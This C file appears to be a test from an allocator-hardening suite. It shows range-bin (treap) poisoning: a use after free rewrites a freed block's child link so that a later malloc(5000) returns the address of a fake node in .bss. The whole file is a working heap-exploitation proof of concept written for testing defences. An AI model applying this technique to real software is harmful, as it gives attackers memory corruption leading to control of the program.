/* Range-bin (treap) poisoning: a use after free sets a freed 5000-byte block's left
 * child to a fake node in .bss; the best-fit walk of the next malloc(5000) finds it. */
#include "sec.h"

static struct fake_block target;

int main(void)
{
    if (allocator() != ON_HEAPCHECK)
        not_applicable("no treap bins");
    groom();
    flush_prepare();
    void *before = malloc(24), *a = malloc(5000), *after = malloc(24);
    size_t size = size_of(a);
    free(a);
    flush_quarantine();
    fake_set(&target, size, 0);
    target.link[0] = target.link[1] = NULL;
    *link_of(launder(a), 0) = &target.link[0]; /* a smaller key: the left child */
    for (int i = 0; i < 16; i++)
        if (malloc(5000) == fake_user(&target))
            worked("malloc(5000) returned the address of a .bss variable");
    launder(before);
    launder(after);
    failed();
}
